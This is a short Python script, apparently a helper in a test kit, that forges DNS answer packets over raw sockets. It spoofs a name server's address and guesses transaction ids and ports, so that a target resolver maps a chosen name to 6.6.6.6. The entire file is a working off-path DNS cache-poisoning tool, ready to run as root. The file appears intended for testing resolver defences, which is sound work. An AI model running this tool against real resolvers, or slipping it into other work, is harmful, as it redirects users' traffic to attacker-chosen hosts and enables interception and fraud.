"""Forged answers off the path: datagrams that claim to come from a name server, to ports and ids by chance.

Run as root: `python -m tests.kit.dns_forger SOURCE TARGET NAME COUNT`; prints how many were sent.
"""

import random
import socket
import struct
import sys


def forged(source: str, target: str, name: str, chance: random.Random) -> bytes:
    """An IPv4 packet with UDP and an answer of 6.6.6.6 for the name."""
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split("."))
    question = labels + b"\0" + struct.pack("!HH", 1, 1)
    answer = b"\xc0\x0c" + struct.pack("!HHIH4s", 1, 1, 3600, 4, bytes((6, 6, 6, 6)))
    data = struct.pack("!6H", chance.randrange(65_536), 0x8580, 1, 1, 0, 0) + question + answer
    udp = struct.pack("!4H", 53, chance.randrange(10_240, 65_536), 8 + len(data), 0) + data
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + addresses + udp


def main(source: str, target: str, name: str, count: int) -> None:
    chance, sent = random.Random(4711), 0  # noqa: S311 - an attacker's, not ours
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            try:
                raw.sendto(forged(source, target, name, chance), (target, 0))
                sent += 1
            except OSError:
                continue  # the buffer is full
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]))
